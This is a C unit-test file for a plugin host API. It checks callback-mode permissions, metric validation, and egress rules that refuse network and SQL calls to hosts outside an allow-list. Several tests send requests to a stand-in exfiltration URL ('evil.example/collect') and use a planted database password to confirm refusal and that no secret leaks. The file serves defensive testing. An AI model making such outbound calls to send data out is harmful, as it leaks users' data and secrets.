/* The host table a pass sees: which functions it gets, which callback mode
 * each one needs, declared-output enforcement, what the ctx owns, pass
 * metrics, and the network rules (no-network steps, egress refusals). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "capture.h"
#include "hostapi.h"
#include "httpclient.h"
#include "log.h"
#include "manifest.h"
#include "metrics.h"
#include "sqlconn.h"

/* `probe` is the pass under test; `masked` is raw so batch_put must
 * refuse it even though it is declared.  The warehouse's host is not on
 * the egress list; 127.0.0.1:9 is, and nothing listens there. */
static const char *yaml =
    "state: dbname=cs\n"
    "plugin_dir: /p\n"
    "raw_aspects: [masked]\n"
    "egress: [\"api.allowed.example:443\", \"127.0.0.1:9\"]\n"
    "connections:\n"
    "  warehouse: {dsn: \"host=db.forbidden.example port=5432 dbname=w "
    "password=hunter2-planted\"}\n"
    "passes:\n"
    "  - name: src\n"
    "    plugin: src\n"
    "    kind: source\n"
    "    outputs: [table]\n"
    "  - name: probe\n"
    "    plugin: probe\n"
    "    kind: entity\n"
    "    inputs: [table]\n"
    "    outputs: [probe, masked]\n";

struct fixture {
    struct manifest *m;
    struct plan_step step;
    struct pass_instance pi;
    struct metrics *metrics;
    atomic_bool stopping;
    struct host_env env;
    struct thread_res tr;
    cs_ctx ctx;
    const cs_host_api *api;
};

static int setup(void **state)
{
    struct fixture *f = calloc(1, sizeof *f);
    char err[1024];
    if (!f || manifest_load_buffer("h.yaml", yaml, strlen(yaml), &f->m, err,
                                   sizeof err) != 0) {
        fprintf(stderr, "manifest: %s\n", err);
        free(f);
        return -1;
    }
    f->step.pass = manifest_find_pass(f->m, "probe");
    f->pi.step = &f->step;
    f->pi.name = f->step.pass->name;
    f->pi.config = json_pack("{s:i}", "depth", 3);
    hostapi_fill_table(&f->pi);
    f->api = &f->pi.api;
    f->metrics = metrics_new();
    atomic_init(&f->stopping, false);
    f->env = (struct host_env){
        .manifest = f->m, .metrics = f->metrics, .stopping = &f->stopping};
    /* No retries: a refused connection must fail at once. */
    struct http_client_options o = {.default_max_retries = 0};
    f->tr.http = http_client_new(f->m->egress, f->m->n_egress, &o);
    f->tr.sql = sql_pool_new(f->m);
    if (!f->pi.config || !f->metrics || !f->tr.http || !f->tr.sql)
        return -1;
    hostapi_ctx_init(&f->ctx, CTX_ENTITY, &f->pi, &f->tr, &f->env);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    struct fixture *f = *state;
    hostapi_ctx_clear(&f->ctx);
    json_decref(f->ctx.aspects);
    sql_pool_free(f->tr.sql);
    http_client_free(f->tr.http);
    metrics_free(f->metrics);
    json_decref(f->pi.config);
    manifest_free(f->m);
    free(f);
    return 0;
}

/* Switches the fixture's ctx to another callback mode. */
static cs_ctx *ctx_mode(struct fixture *f, enum ctx_mode mode)
{
    hostapi_ctx_clear(&f->ctx);
    json_decref(f->ctx.aspects);
    hostapi_ctx_init(&f->ctx, mode, &f->pi, &f->tr, &f->env);
    if (mode == CTX_ENTITY) {
        f->ctx.fqn = "svc.db.sch.t1";
        f->ctx.aspects = json_object();
        assert_non_null(f->ctx.aspects);
    }
    return &f->ctx;
}

static int count_occurrences(const char *text, const char *part)
{
    int n = 0;
    for (const char *p = text; (p = strstr(p, part)); p += strlen(part))
        n++;
    return n;
}

/* ---- the table ------------------------------------------------------------
 */

static void test_table_full_for_network_step(void **state)
{
    struct fixture *f = *state;
    const cs_host_api *a = f->api;
    assert_int_equal(a->struct_size, sizeof(cs_host_api));
    assert_int_equal(a->abi_major, CS_ABI_MAJOR);
    assert_int_equal(a->abi_minor, CS_ABI_MINOR);
    /* Every slot after the three header fields is a function. */
    const char *p = (const char *)a + offsetof(cs_host_api, log);
    const char *end = (const char *)a + sizeof *a;
    for (int i = 0; p < end; p += sizeof(void (*)(void)), i++) {
        void (*fn)(void);
        memcpy(&fn, p, sizeof fn);
        if (!fn)
            fail_msg("host table slot %d is NULL", i);
    }
    assert_true(CS_HOST_HAS(a, http));
    assert_true(CS_HOST_HAS(a, sql_query));
    assert_true(CS_HOST_HAS(a, llm_chat));
    assert_true(CS_HOST_HAS(a, llm_vectors_free));
}

static void test_table_no_network_nulls_outbound(void **state)
{
    struct fixture *f = *state;
    cs_host_api full = f->pi.api;
    f->step.no_network = true;
    hostapi_fill_table(&f->pi);
    assert_null(f->pi.api.http);
    assert_null(f->pi.api.sql_query);
    /* Persisted pass state could carry raw values out as well. */
    assert_null(f->pi.api.state_put);
    /* ... and so could an audit row's values. */
    assert_null(f->pi.api.audit);
    /* Prompts would carry them to the LLM endpoint. */
    assert_null(f->pi.api.llm_chat);
    assert_null(f->pi.api.llm_embed);
    assert_false(CS_HOST_HAS(&f->pi.api, http));
    assert_false(CS_HOST_HAS(&f->pi.api, llm_chat));
    /* Everything else is the same table, result accessors included. */
    full.http = NULL;
    full.sql_query = NULL;
    full.state_put = NULL;
    full.audit = NULL;
    full.llm_chat = NULL;
    full.llm_embed = NULL;
    assert_memory_equal(&full, &f->pi.api, sizeof full);
    assert_non_null(f->pi.api.sql_value);
    assert_non_null(f->pi.api.http_response_free);
    assert_non_null(f->pi.api.llm_response_free);
    assert_non_null(f->pi.api.llm_vectors_free);
    /* And back: the table follows the step, it is not sticky. */
    f->step.no_network = false;
    hostapi_fill_table(&f->pi);
    assert_non_null(f->pi.api.http);
    assert_non_null(f->pi.api.sql_query);
}

/* ---- entity callbacks ------------------------------------------------------
 */

static void test_aspect_put_undeclared_denied(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    /* A nested value: a leak of it would show under ASan. */
    json_t *v = json_pack("{s:[s,s]}", "k", "a", "b");
    assert_int_equal(f->api->aspect_put(ctx, "table", v), CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "aspect `table` is not a declared output of pass "
                        "`probe`");
    assert_int_equal(json_object_size(ctx->aspects), 0);

    assert_int_equal(f->api->aspect_put(ctx, NULL, json_true()), CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "aspect `(null)` is not a declared output of pass "
                        "`probe`");
    assert_int_equal(f->api->aspect_put(ctx, "probe", NULL), CS_ERR_INVALID);
}

static void test_aspect_put_declared_stored(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    json_t *v = json_pack("{s:i}", "rows", 10);
    assert_int_equal(f->api->aspect_put(ctx, "probe", v), CS_OK);
    assert_ptr_equal(json_object_get(ctx->aspects, "probe"), v);
    assert_ptr_equal(f->api->aspect_get(ctx, "probe"), v);
    /* A second put replaces (and releases) the first. */
    assert_int_equal(f->api->aspect_put(ctx, "probe", json_integer(2)), CS_OK);
    assert_int_equal(json_integer_value(f->api->aspect_get(ctx, "probe")), 2);
    assert_null(f->api->aspect_get(ctx, "nothing"));
    assert_string_equal(f->api->entity_fqn(ctx), "svc.db.sch.t1");
}

static void test_entity_functions_outside_entity_ctx(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_SOURCE);
    assert_int_equal(f->api->aspect_put(ctx, "probe", json_pack("[i]", 1)),
                     CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "aspect_put() is not available in this callback");
    assert_null(f->api->aspect_get(ctx, "table"));
    assert_string_equal(f->api->last_error(ctx),
                        "aspect_get() is not available in this callback");
    assert_null(f->api->entity_fqn(ctx));
    /* No ctx at all: refused, nothing to record the error in. */
    assert_int_equal(f->api->aspect_put(NULL, "probe", json_true()),
                     CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(NULL), "");
}

/* ---- source callbacks ------------------------------------------------------
 */

static void test_emit_entity_outside_source_denied(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    json_t *t = json_pack("{s:s}", "name", "t1");
    assert_int_equal(f->api->emit_entity(ctx, "a.b.c.t1", t), CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "emit_entity() is not available in this callback");
    assert_int_equal(f->api->emit_deleted(ctx, "a.b.c.t1"), CS_ERR_DENIED);
    assert_int_equal(ctx->n_items, 0);
    ctx = ctx_mode(f, CTX_BATCH);
    assert_int_equal(
        f->api->emit_entity(ctx, "a.b.c.t1", json_pack("{s:s}", "name", "t")),
        CS_ERR_DENIED);
    assert_null(ctx->items);
}

static void test_emit_entity_accumulates(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_SOURCE);
    json_t *first = json_pack("{s:s}", "name", "t0");
    assert_int_equal(f->api->emit_entity(ctx, "s.d.x.t0", first), CS_OK);
    assert_int_equal(f->api->emit_deleted(ctx, "s.d.x.gone"), CS_OK);
    /* Past the first allocation, to cover growth. */
    for (int i = 1; i < 150; i++) {
        char fqn[64];
        snprintf(fqn, sizeof fqn, "s.d.x.t%d", i);
        assert_int_equal(
            f->api->emit_entity(ctx, fqn, json_pack("{s:i}", "i", i)), CS_OK);
    }
    assert_int_equal(ctx->n_items, 151);
    assert_string_equal(ctx->items[0].fqn, "s.d.x.t0");
    assert_string_equal(ctx->items[0].source, "probe");
    assert_int_equal(ctx->items[0].op, JOB_UPSERT);
    assert_ptr_equal(ctx->items[0].entity, first);
    assert_string_equal(ctx->items[1].fqn, "s.d.x.gone");
    assert_int_equal(ctx->items[1].op, JOB_DELETE);
    assert_null(ctx->items[1].entity);
    assert_string_equal(ctx->items[150].fqn, "s.d.x.t149");
    assert_int_equal(
        json_integer_value(json_object_get(ctx->items[150].entity, "i")), 149);

    /* Bad arguments are refused and the table is still released. */
    assert_int_equal(f->api->emit_entity(ctx, "", json_object()),
                     CS_ERR_INVALID);
    assert_int_equal(f->api->emit_entity(ctx, NULL, json_object()),
                     CS_ERR_INVALID);
    assert_int_equal(f->api->emit_entity(ctx, "s.d.x.arr", json_array()),
                     CS_ERR_INVALID);
    assert_string_equal(f->api->last_error(ctx),
                        "emit_entity needs a FQN and a table object");
    assert_int_equal(f->api->emit_deleted(ctx, ""), CS_ERR_INVALID);
    assert_int_equal(ctx->n_items, 151);

    /* ctx_clear releases everything (ASan checks) and resets the list. */
    hostapi_ctx_clear(ctx);
    assert_null(ctx->items);
    assert_int_equal(ctx->n_items, 0);
    assert_int_equal(ctx->cap_items, 0);
    /* The ctx is usable again after a clear. */
    assert_int_equal(f->api->emit_deleted(ctx, "s.d.x.again"), CS_OK);
    assert_int_equal(ctx->n_items, 1);
}

static void test_watermark_set_replaces_and_frees(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_SOURCE);
    assert_null(f->api->watermark_get(ctx)); /* first run */
    ctx->watermark = json_string("committed");
    assert_string_equal(json_string_value(f->api->watermark_get(ctx)),
                        "committed");

    json_t *a = json_string("a");
    json_incref(a); /* watch its count */
    assert_int_equal(f->api->watermark_set(ctx, a), CS_OK);
    assert_ptr_equal(ctx->staged_watermark, a);
    assert_int_equal(a->refcount, 2);
    json_t *b = json_string("b");
    assert_int_equal(f->api->watermark_set(ctx, b), CS_OK);
    assert_ptr_equal(ctx->staged_watermark, b);
    assert_int_equal(a->refcount, 1); /* the host let go of the first */
    json_decref(a);
    /* Staging does not touch the committed watermark. */
    assert_string_equal(json_string_value(f->api->watermark_get(ctx)),
                        "committed");

    /* Outside discover(): refused, value released, staging unchanged. */
    ctx_mode(f, CTX_ENTITY); /* clears (and frees) both watermarks */
    assert_null(f->ctx.watermark);
    assert_null(f->ctx.staged_watermark);
    json_t *c = json_string("c");
    json_incref(c);
    assert_int_equal(f->api->watermark_set(&f->ctx, c), CS_ERR_DENIED);
    assert_int_equal(c->refcount, 1);
    json_decref(c);
    assert_null(f->ctx.staged_watermark);
    assert_null(f->api->watermark_get(&f->ctx));
}

/* ---- batch callbacks (what needs no state store) ------------------------- */

static void test_batch_functions_and_modes(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    assert_int_equal(f->api->batch_count(ctx), 0);
    assert_null(f->api->batch_fqn(ctx, 0));
    assert_int_equal(f->api->batch_put(ctx, "a.b", "probe", json_object()),
                     CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "batch_put() is not available in this callback");

    ctx = ctx_mode(f, CTX_BATCH);
    char *fqns[] = {"s.d.x.t1", "s.d.x.t2"};
    ctx->fqns = fqns;
    ctx->n_fqns = 2;
    assert_int_equal(f->api->batch_count(ctx), 2);
    assert_string_equal(f->api->batch_fqn(ctx, 1), "s.d.x.t2");
    assert_null(f->api->batch_fqn(ctx, 2));
    /* Refused before the state store is touched (there is none here). */
    assert_int_equal(f->api->batch_put(ctx, "s.d.x.t1", "table", json_object()),
                     CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "aspect `table` is not a declared non-raw output");
    assert_int_equal(
        f->api->batch_put(ctx, "s.d.x.t1", "masked", json_pack("[s]", "x")),
        CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "aspect `masked` is not a declared non-raw output");
    ctx->fqns = NULL;
    ctx->n_fqns = 0;
}

/* ---- misc ------------------------------------------------------------------
 */

static void test_config_stop_and_errors(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_INIT);
    assert_ptr_equal(f->api->config(ctx), f->pi.config);
    assert_false(f->api->should_stop(ctx));
    atomic_store(&f->stopping, true);
    assert_true(f->api->should_stop(ctx));

    assert_string_equal(hostapi_callback_error(ctx, -1),
                        "returned error -1 without a message");
    ctx = ctx_mode(f, CTX_INIT);
    f->api->aspect_put(ctx, "probe", json_true()); /* leaves a host error */
    assert_string_equal(hostapi_callback_error(ctx, -1),
                        "aspect_put() is not available in this callback");
    f->api->set_error(ctx, "table %s has %d columns", "t", 0);
    assert_string_equal(hostapi_callback_error(ctx, -1),
                        "table t has 0 columns");
}

static void test_metric_names_validated(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    const char *bad[] = {"Rows",    "rows-seen", "rows seen", "",
                         "rows{x}", "r\"ows",    "rows.seen", NULL};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        f->api->metric_add(ctx, bad[i], 1);
        f->api->metric_observe(ctx, bad[i], 1);
    }
    json_t *snap = metrics_snapshot(f->metrics);
    assert_non_null(snap);
    char *text = json_dumps(snap, JSON_COMPACT);
    assert_non_null(text);
    if (strstr(text, "catalog_sync_pass_"))
        fail_msg("an invalid metric name was recorded: %s", text);
    free(text);
    json_decref(snap);
}

static void test_metric_add_and_observe_recorded(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    f->api->metric_add(ctx, "rows_seen", 2);
    f->api->metric_add(ctx, "rows_seen", 3.5);
    f->api->metric_add(ctx, "rows_seen", -1); /* counters only go up */
    assert_true(metrics_get(f->metrics, "catalog_sync_pass_rows_seen_total",
                            "pass=\"probe\"") == 5.5);
    f->api->metric_observe(ctx, "query_seconds", 0.25);
    f->api->metric_observe(ctx, "query_seconds", 2);
    assert_true(metrics_get(f->metrics, "catalog_sync_pass_query_seconds",
                            "pass=\"probe\"") == 2);
    /* Another pass's series stays apart. */
    f->pi.name = "other";
    f->api->metric_add(ctx, "rows_seen", 1);
    f->pi.name = "probe";
    assert_true(metrics_get(f->metrics, "catalog_sync_pass_rows_seen_total",
                            "pass=\"other\"") == 1);
    assert_true(metrics_get(f->metrics, "catalog_sync_pass_rows_seen_total",
                            "pass=\"probe\"") == 5.5);
}

static cs_http_request get_request(const char *url)
{
    return (cs_http_request){.struct_size = sizeof(cs_http_request),
                             .method = "GET",
                             .url = url,
                             .timeout_ms = 2000,
                             .max_retries = 0};
}

/* Every label set in the registry is well formed: a truncated one would
 * break the whole Prometheus scrape. */
static void assert_labels_terminated(struct metrics *m)
{
    json_t *snap = metrics_snapshot(m);
    assert_non_null(snap);
    size_t i, j;
    json_t *fam, *series;
    json_array_foreach(json_object_get(snap, "families"), i, fam)
    {
        json_array_foreach(json_object_get(fam, "series"), j, series)
        {
            const char *l =
                json_string_value(json_object_get(series, "labels"));
            size_t n = l ? strlen(l) : 0;
            if (n && l[n - 1] != '"')
                fail_msg("family %s: truncated labels %s",
                         json_string_value(json_object_get(fam, "name")), l);
        }
    }
    json_decref(snap);
}

/* Names too long for the host's buffers must be refused, not cut: a cut
 * name loses its `_total` suffix and can merge two passes' counters. */
static void test_metric_long_names_not_truncated(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    char name[151];
    memset(name, 'a', 150);
    name[150] = '\0';
    f->api->metric_add(ctx, name, 1);
    char full[256];
    snprintf(full, sizeof full, "catalog_sync_pass_%s_total", name);
    if (metrics_get(f->metrics, full, "pass=\"probe\"") != 1) {
        /* Not recorded in full: then it must not be recorded at all. */
        json_t *snap = metrics_snapshot(f->metrics);
        char *text = json_dumps(snap, JSON_COMPACT);
        json_decref(snap);
        int cut = strstr(text, "catalog_sync_pass_") != NULL;
        free(text);
        if (cut)
            fail_msg("a 150-character metric name was recorded truncated");
    }

    /* A long pass name (the manifest sets no length limit). */
    char pass[201];
    memset(pass, 'p', 200);
    pass[200] = '\0';
    f->pi.name = pass;
    f->api->metric_add(ctx, "rows", 1);
    f->api->metric_observe(ctx, "secs", 1);
    cs_http_request req = get_request("https://evil.example/");
    cs_http_response resp = {0};
    stderr_capture_begin();
    assert_int_equal(f->api->http(ctx, &req, &resp), CS_ERR_EGRESS);
    free(stderr_capture_end());
    f->pi.name = "probe";
    assert_labels_terminated(f->metrics);
}

/* ---- network ----------------------------------------------------------------
 */

static double refused(struct fixture *f, const char *kind)
{
    char labels[128];
    snprintf(labels, sizeof labels, "pass=\"probe\",kind=\"%s\"", kind);
    return metrics_get(f->metrics, "catalog_sync_egress_refused_total", labels);
}

/* A raw consumer never gets the functions, but if it kept a pointer from
 * some other table, the functions themselves refuse too. */
/* aspect_wanted() for the producer of a raw `sample`, in a plan where a
 * later pass reads it or not; a persisted aspect is always wanted. */
static int wanted_in_plan(const char *consumer, const char *aspect)
{
    char text[1024], err[1024];
    snprintf(text, sizeof text,
             "state: dbname=x\n"
             "passes:\n"
             "  - {name: src, plugin: s, kind: source, outputs: [table]}\n"
             "  - {name: prof, plugin: p, kind: entity, inputs: [table],\n"
             "     outputs: [sample, profile]}\n"
             "%s",
             consumer);
    struct manifest *m = NULL;
    struct plan *p = NULL;
    assert_int_equal(
        manifest_load_buffer("w.yaml", text, strlen(text), &m, err, sizeof err),
        0);
    assert_int_equal(plan_build(m, &p, err, sizeof err), 0);
    struct pass_instance pi = {.step = &p->steps[plan_find_step(p, "prof")],
                               .name = "prof"};
    hostapi_fill_table(&pi);
    struct host_env env = {.manifest = m, .plan = p};
    struct thread_res tr = {0};
    cs_ctx ctx;
    hostapi_ctx_init(&ctx, CTX_ENTITY, &pi, &tr, &env);
    assert_true(CS_HOST_HAS(&pi.api, aspect_wanted));
    int wanted = pi.api.aspect_wanted(&ctx, aspect);
    plan_free(p);
    manifest_free(m);
    return wanted;
}

static void test_aspect_wanted_follows_the_plan(void **state)
{
    (void)state;
    const char *reader = "  - {name: pii, plugin: q, kind: entity,\n"
                         "     inputs: [table, sample], outputs: [pii]}\n";
    assert_int_equal(wanted_in_plan(reader, "sample"), 1);
    assert_int_equal(wanted_in_plan("", "sample"), 0);
    /* Not raw: persisted, so always worth producing. */
    assert_int_equal(wanted_in_plan("", "profile"), 1);
}

static void test_network_denied_on_no_network_step(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    f->step.no_network = true;
    cs_http_request req = get_request("https://api.allowed.example/v1");
    cs_http_response resp = {0};
    assert_int_equal(f->api->http(ctx, &req, &resp), CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "pass `probe` consumes a raw aspect and may not use "
                        "the network");
    assert_null(resp.body);
    cs_sql_result *res = (cs_sql_result *)1;
    ctx->last_error[0] = '\0';
    assert_int_equal(
        f->api->sql_query(ctx, "warehouse", "select 1", 0, NULL, &res),
        CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "pass `probe` consumes a raw aspect and may not use "
                        "the network");
    /* A denial is not an egress refusal. */
    assert_true(refused(f, "http") == 0);
    assert_true(refused(f, "sql") == 0);
    f->step.no_network = false;
}

static void test_http_egress_refused_counted_and_logged(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    cs_http_request req = get_request("https://evil.example/collect?x=1");
    cs_http_response resp = {0};
    stderr_capture_begin();
    int rc1 = f->api->http(ctx, &req, &resp);
    int rc2 = f->api->http(ctx, &req, &resp);
    char *log = stderr_capture_end();
    assert_int_equal(rc1, CS_ERR_EGRESS);
    assert_int_equal(rc2, CS_ERR_EGRESS);
    assert_string_equal(f->api->last_error(ctx),
                        "egress refused: evil.example:443 is not in the "
                        "manifest's egress list");
    assert_null(resp.body);
    assert_true(refused(f, "http") == 2);
    assert_true(refused(f, "sql") == 0);
    /* One warning line per refusal, naming the pass and entity. */
    assert_int_equal(count_occurrences(log, "\n"), 2);
    assert_int_equal(count_occurrences(log, " WARN "), 2);
    assert_int_equal(count_occurrences(log, "pass=probe entity=svc.db.sch.t1: "
                                            "egress refused: evil.example:443"),
                     2);
    free(log);
}

static void test_sql_egress_refused_counted(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    cs_sql_result *res = NULL;
    stderr_capture_begin();
    int rc = f->api->sql_query(ctx, "warehouse", "select 1", 0, NULL, &res);
    char *log = stderr_capture_end();
    assert_int_equal(rc, CS_ERR_EGRESS);
    assert_null(res);
    assert_string_equal(f->api->last_error(ctx),
                        "connection \"warehouse\": egress refused: "
                        "db.forbidden.example:5432 is not in the manifest's "
                        "egress list");
    assert_true(refused(f, "sql") == 1);
    assert_true(refused(f, "http") == 0);
    assert_int_equal(count_occurrences(log, " WARN "), 1);
    assert_int_equal(count_occurrences(log, "pass=probe entity=svc.db.sch.t1: "
                                            "connection \"warehouse\": egress "
                                            "refused: db.forbidden.example"),
                     1);
    /* The DSN's password appears nowhere. */
    assert_null(strstr(log, "hunter2"));
    assert_null(strstr(f->api->last_error(ctx), "hunter2"));
    free(log);
    /* An unknown connection is a plain error, not a refusal. */
    assert_int_equal(f->api->sql_query(ctx, "nope", "select 1", 0, NULL, &res),
                     CS_ERR_NOT_FOUND);
    assert_true(refused(f, "sql") == 1);
}

static void test_http_other_failures_not_counted(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    cs_http_response resp = {0};
    /* Allowed but nothing listens: a failure, not a refusal. */
    cs_http_request req = get_request("http://127.0.0.1:9/x");
    int rc = f->api->http(ctx, &req, &resp);
    assert_true(rc != CS_OK && rc != CS_ERR_EGRESS);
    /* Too short to hold even the URL: refused as invalid. */
    req.struct_size = offsetof(cs_http_request, url);
    assert_int_equal(f->api->http(ctx, &req, &resp), CS_ERR_INVALID);
    assert_int_equal(f->api->http(ctx, NULL, &resp), CS_ERR_INVALID);
    assert_true(refused(f, "http") == 0);
}

/* LLM calls follow the same rule as http, and a name missing from
 * `llm.endpoints` is an error naming it (this manifest has none). */
static void test_llm_denied_on_no_network_step(void **state)
{
    struct fixture *f = *state;
    cs_ctx *ctx = ctx_mode(f, CTX_ENTITY);
    cs_llm_request req = {.struct_size = sizeof req, .prompt = "p"};
    cs_llm_response resp = {0};
    float *vec = (float *)1;
    int dim = -1;
    const char *texts[] = {"t"};
    assert_int_equal(f->api->llm_chat(ctx, &req, &resp), CS_ERR_NOT_FOUND);
    assert_string_equal(f->api->last_error(ctx),
                        "LLM endpoint \"default\" is not defined under the "
                        "manifest's llm.endpoints");
    assert_int_equal(
        f->api->llm_embed(ctx, "big", NULL, texts, 1, 0, &vec, &dim),
        CS_ERR_NOT_FOUND);
    assert_null(vec);
    f->step.no_network = true;
    assert_int_equal(f->api->llm_chat(ctx, &req, &resp), CS_ERR_DENIED);
    assert_int_equal(
        f->api->llm_embed(ctx, NULL, NULL, texts, 1, 0, &vec, &dim),
        CS_ERR_DENIED);
    assert_string_equal(f->api->last_error(ctx),
                        "pass `probe` consumes a raw aspect and may not use "
                        "the network");
    f->step.no_network = false;
    assert_null(resp.content);
    f->api->llm_response_free(&resp);
}

static int teardown_capture(void **state)
{
    stderr_capture_abort();
    return teardown(state);
}

int main(void)
{
    if (http_global_init() != 0)
        return 1;
#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown_capture)
    const struct CMUnitTest tests[] = {
        T(test_table_full_for_network_step),
        T(test_table_no_network_nulls_outbound),
        T(test_aspect_put_undeclared_denied),
        T(test_aspect_put_declared_stored),
        T(test_entity_functions_outside_entity_ctx),
        T(test_emit_entity_outside_source_denied),
        T(test_emit_entity_accumulates),
        T(test_watermark_set_replaces_and_frees),
        T(test_batch_functions_and_modes),
        T(test_config_stop_and_errors),
        T(test_metric_names_validated),
        T(test_metric_add_and_observe_recorded),
        T(test_metric_long_names_not_truncated),
        cmocka_unit_test(test_aspect_wanted_follows_the_plan),
        T(test_network_denied_on_no_network_step),
        T(test_http_egress_refused_counted_and_logged),
        T(test_sql_egress_refused_counted),
        T(test_http_other_failures_not_counted),
        T(test_llm_denied_on_no_network_step),
    };
#undef T
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    http_global_cleanup();
    return rc;
}
